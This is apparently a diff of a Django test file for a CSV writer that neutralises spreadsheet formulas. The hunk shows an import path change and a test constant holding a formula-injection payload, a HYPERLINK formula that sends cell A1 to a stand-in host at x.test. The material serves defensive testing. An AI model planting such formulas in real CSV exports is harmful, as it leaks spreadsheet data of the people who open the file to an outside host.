@@ -9,7 +9,7 @@ import io
 
 from django.core.management import call_command
 
-from cper.io.formulas import InertCsvWriter, restore
+from cper.formulas import InertCsvWriter, restore
 from tests.finance import factories as F
 
 PLANTED = '=HYPERLINK("http://x.test/?leak="&A1,"Voir")'
